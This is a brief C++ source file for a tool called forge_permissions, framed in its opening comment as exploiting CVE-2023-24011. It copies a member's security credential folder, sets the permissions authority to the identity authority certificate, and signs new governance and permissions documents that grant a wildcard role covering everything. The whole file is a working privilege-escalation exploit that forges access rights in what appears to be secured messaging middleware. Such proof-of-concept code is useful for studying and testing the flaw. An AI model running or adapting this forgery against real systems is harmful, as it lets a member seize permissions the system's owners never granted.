// A member that grants itself everything (CVE-2023-24011): permissions and governance are signed
// with its own key, whose certificate the identity authority signed. Where that authority were the
// one of permissions too, others would take them.
//
//   forge_permissions MEMBER_FOLDER NEW_FOLDER

#include <filesystem>
#include <fstream>
#include <iterator>

#include "service/security/documents.hpp"
#include "service/security/material.hpp"
#include "service/security/openssl.hpp"

namespace {

namespace fs = std::filesystem;
using namespace reident::security;

std::string read(const fs::path& path) {
  std::ifstream file(path);
  return {std::istreambuf_iterator<char>(file), {}};
}

}  // namespace

int main(int argc, char** argv) {
  if (argc != 3) return 2;
  const fs::path from = argv[1], to = argv[2];
  fs::copy(from, to);
  const Certificate certificate = read_certificate(read(from / file::certificate));
  const Key key = read_key(read(from / file::key));
  const Role everything{"everything", "", {"*"}, {"*"}};
  const auto write = [&to](const char* name, const std::string& text) {
    std::ofstream(to / name, std::ios::trunc) << text;
  };
  write(file::permissions_authority, read(from / file::identity_authority));
  write(file::governance, sign_document(governance_text(), certificate, key));
  write(file::permissions, sign_document(permissions_text(everything, subject_text(certificate),
                                                          {"*"}, validity_of(certificate)),
                                         certificate, key));
  return 0;
}
